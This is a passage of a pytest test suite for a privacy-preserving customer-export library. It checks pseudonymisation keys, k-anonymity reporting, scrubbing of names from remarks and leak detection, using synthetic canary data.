    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    caplog.set_level(logging.DEBUG)
    done = ik.export(annotated(), tmp_path / "out.parquet", key=KEY)
    told = caplog.text + "".join(capfd.readouterr()) + str(done) + repr(done)
    assert "canary" not in told.lower()
    assert KEY.text() not in told


@pytest.mark.parametrize(
    "wrong",
    [
        {"level": "anonymous"}, {"language": "fr"}, {"remarks": "keep"}, {"purpose": " "},
        {"level": "masked", "policy": standard()},
    ],
)  # fmt: skip
def test_an_invalid_argument_is_rejected_before_anything_is_written(tmp_path: Path, wrong: dict) -> None:
    with pytest.raises(ArgumentError, match="Hint: "):
        ik.export(annotated(), tmp_path / "out.parquet", **wrong)
    assert left(tmp_path) == []


# -- k-anonymity -----------------------------------------------------------------------------------


def test_the_report_says_in_words_how_many_are_unique(tmp_path: Path) -> None:
    frame = annotated(people(9)).with_columns(
        account_manager=pl.Series(["m1"] * 6 + ["m2"] * 3), status=pl.lit("invited")
    )
    done = ik.export(frame.with_columns(status=pl.Series(["invited"] * 8 + ["expired"])), tmp_path / "out.parquet")
    result = done.uniqueness[0]
    assert result.by == ("invited_month", "account_manager", "status")
    assert (result.records, result.unique, result.small, result.smallest) == (9, 1, 3, 1)
    assert result.sentence().startswith("1 record is unique by month, manager and status (11.1%)")
    assert "1 条记录是唯一的" in result.sentence("zh")
    assert result.sentence() in str(done)


# -- the history -----------------------------------------------------------------------------------


def test_the_workspace_records_completed_and_failed_exports(tmp_path: Path) -> None:
    with ik.Workspace(tmp_path / "memory.duckdb") as kept:
        done = ik.export(annotated(), tmp_path / "out.csv", workspace=kept, purpose="q1", key=KEY)
        with pytest.raises(SchemaError):
            ik.export(SPOILT["text for a time"](annotated()), tmp_path / "two.csv", workspace=kept)
        first, second = kept.exports().pl().rows(named=True)
    told = {"level": "pseudonymised", "purpose": "q1", "file_name": "out.csv", "key_id": KEY.id}
    assert {name: first[name] for name in told} == told
    assert (first["status"], first["rows"], first["sha256"]) == ("completed", 200, done.sha256)
    assert (second["status"], second["rows"], second["key_id"]) == ("failed", None, None)


# -- remarks ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("level", ["masked", "pseudonymised"])
def test_scrubbed_remarks_are_exported_without_names(tmp_path: Path, level: Any) -> None:
    said = {
        "call Ann Canary1 back, about USD 5 000.00": "call [name] back, about USD 5 000.00",
        "write to someone@mail.example": "write to [email]",
        "knows Canary Company 7 GmbH": "knows [name]",
        "ask canary_3": "ask [name]",
        "renewal in Q3, v2.14.1": "renewal in Q3, v2.14.1",
    }
    frame = annotated(people(len(said)).with_columns(Remarks=pl.Series(list(said))))
    frame = pl.concat([frame, annotated(people(9)).tail(4).with_columns(remarks=None)], how="diagonal_relaxed")
    done = ik.export(frame, tmp_path / "out.parquet", level=level, remarks="scrub", key=KEY)
    assert sorted(read(done.path)["remarks"].drop_nulls()) == sorted(said.values())
    assert json.loads(done.manifest.read_text())["remarks"] == "scrub"
    assert "remarks" not in read(ik.export(frame, tmp_path / "two.parquet", level=level, key=KEY).path).columns


# -- keys ------------------------------------------------------------------------------------------


@pytest.fixture
def alone(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A machine without a key, a keyring and settings."""
    monkeypatch.delenv("INVITEKIT_KEY", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    return tmp_path


def test_without_a_key_each_export_has_its_own(alone: Path) -> None:
    assert resolve_key().id is None
    with pytest.raises(ArgumentError, match="key new"):
        stored_key()
    assert left(alone) == []


def test_a_key_can_be_in_the_environment(alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("INVITEKIT_KEY", KEY.text())
    assert resolve_key().id == KEY.id
    with pytest.raises(ArgumentError, match="INVITEKIT_KEY"):
        rotate_key()
    monkeypatch.setenv("INVITEKIT_KEY", "not a key")
    with pytest.raises(ArgumentError) as refused:
        resolve_key()
    assert "not a key" not in str(refused.value)
    assert left(alone) == []


@pytest.mark.parametrize("named", [True, False])
def test_a_key_file_is_private_and_never_replaced(alone: Path, named: bool) -> None:
    file = alone / "key" if named else None
    made, where = new_key(file)
    path = file or alone / "settings" / "invitekit" / "key"
    assert str(path) in where
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stored_key(file).id == resolve_key(file).id == made.id
    with pytest.raises(OutputError, match="exists already"):
        new_key(file)
    old, new, _ = rotate_key(file)
    assert (old.id, stored_key(file).id) == (made.id, new.id)
    assert stored_key(path.with_name(f"{path.name}.{old.id}")).id == old.id
    path.chmod(0o640)
    with pytest.raises(ArgumentError, match="read by others"):
        resolve_key(file)


def test_a_missing_or_invalid_key_file_is_rejected(alone: Path) -> None:
    with pytest.raises(SourceError, match="no such file"):
        resolve_key(alone / "nowhere")
    (alone / "text").write_text("secret words")
    (alone / "text").chmod(0o600)
    with pytest.raises(ArgumentError) as refused:
        resolve_key(alone / "text")
    assert "secret words" not in str(refused.value)


# -- counted customers --------------------------------------------------------------------------------


def alone_in(cells: int, columns: dict) -> pl.DataFrame:
    """Return records that differ only in the given columns."""
    made = {"Account Name": [None] * cells, "Custom Tag": ["a private tag"] * cells, "Status": ["Associated"] * cells}
    return annotated(people(cells, made | {"Invitation Time": [dt.datetime(2026, 3, 2)] * cells} | columns))


MASKED: dict[str, list] = {"Customer Name": ["T***m"] * 20, "Customer Full Name": ["S***"] * 20,
                           "Email": ["a***@x.example"] * 20, "Mobile": ["138****1234"] * 20,
                           "Account Manager": [None] * 20}  # fmt: skip
ONE = {
    "many addresses": {"Customer Full Name": ["Solo GmbH"] * 20, "Mobile": ["+49 170 1000001"] * 20},
    "many spellings": {"Account Name": [f"{'ｓ' if n % 2 else 'S'}olo{' ' * (n % 3)}" for n in range(20)]},
    "masked": MASKED | {"Account Name": [f"a***{n}" for n in range(20)]},
}


@pytest.mark.parametrize("how", ONE)
def test_one_customer_is_counted_once_however_written(tmp_path: Path, how: str) -> None:
    masked = r"20 of 20 invitations have no known customer.* not masked"
    with pytest.raises(OutputError, match=masked if how == "masked" else "10 customers"):
        ik.export(alone_in(20, ONE[how]), tmp_path / "out.parquet", level="aggregated")
    assert left(tmp_path) == []


# -- engines -------------------------------------------------------------


def test_records_are_spilled_to_a_private_temporary_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    relation = duckdb.from_arrow(annotated().to_arrow())
    opened = with_customer_numbers(open_source(relation, None), ["status"])
    assert opened.con
    spill, limit = opened.con.execute(
        "select current_setting('temp_directory'), current_setting('memory_limit')"
    ).fetchall()[0]
    assert Path(spill).parent == tmp_path
    assert stat.S_IMODE(Path(spill).stat().st_mode) == 0o700
    assert limit == "1.1 GiB"
    opened.close()
    assert left(tmp_path) == []
    (tmp_path / "target").mkdir()
    ik.export(annotated(), tmp_path / "target" / "out.csv")
    assert left(tmp_path) == ["target"]


def test_a_failed_check_has_no_error_of_an_engine_as_its_cause(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    true = transform.release
    long = pl.lit("y" * 3_000_000).alias("country")  # longer than a line of CSV may be
    monkeypatch.setattr(pipeline, "release", lambda b, r, s: true(b, r, s).with_columns(b["email"], long))
    with pytest.raises(LeakError) as refused:
        ik.export(annotated().head(3), tmp_path / "out.csv")
    assert refused.value.check == "readable"
    assert refused.value.__context__ is None
    assert "canary." not in held(refused.value)


TAGS = (
    "anna.lee@partner.example", "+49 170 1000001 (Anna)", "李伟 13812345678", "Lead of mgr.canary2", "ＭＧＲ.canary1",
    " mgr.canary0", "mgr.canary1\u200b", "for Ann Canary7's team",
)  # fmt: skip


def tagged() -> pl.DataFrame:
    """Records with frequent tags that all identify a person, except one."""
    tags = [*TAGS, "spring-sale"]
    return every_column().with_columns(custom_tag=pl.Series([tags[n % len(tags)] for n in range(200)]))


def test_a_frequent_tag_that_identifies_a_person_becomes_other(tmp_path: Path) -> None:
    found = read(ik.export(tagged(), tmp_path / "out.parquet").path)
    assert dict(found["custom_tag"].value_counts().iter_rows()) == {"other": 178, "spring-sale": 22}


class Blind(frequent_values.IdentifierScanner):
    """Finds no identifying word."""

    def identifying_words(self) -> frozenset[str]:
        return frozenset()


def test_a_word_that_identifies_a_person_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frequent_values, "IdentifierScanner", Blind)
    with pytest.raises(LeakError) as refused:
        ik.export(tagged(), tmp_path / "out.parquet")
    assert (refused.value.column, refused.value.check, refused.value.count) == ("custom_tag", "values", len(TAGS))
    assert left(tmp_path) == []


@pytest.mark.parametrize("how", ["masked", "many addresses", "many spellings"])
def test_a_frequent_tag_of_one_customer_is_not_exported(tmp_path: Path, how: str) -> None:
    done = ik.export(alone_in(20, ONE[how]), tmp_path / "out.parquet")
    assert set(read(done.path)["custom_tag"]) == {"other"}


def test_a_file_of_another_kind_has_no_manifest(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text("x")
    with pytest.raises(SourceError, match="is not an export"):
        verify(tmp_path / "out.txt")


def test_two_exports_of_the_same_records_do_not_join_row_by_row(tmp_path: Path) -> None:
    frame = annotated()
    made = [read(ik.export(frame, tmp_path / f"{n}.parquet", key=KEY).path)["email"] for n in range(2)]
    assert made[0].sort().equals(made[1].sort())
    assert not made[0].equals(made[1])
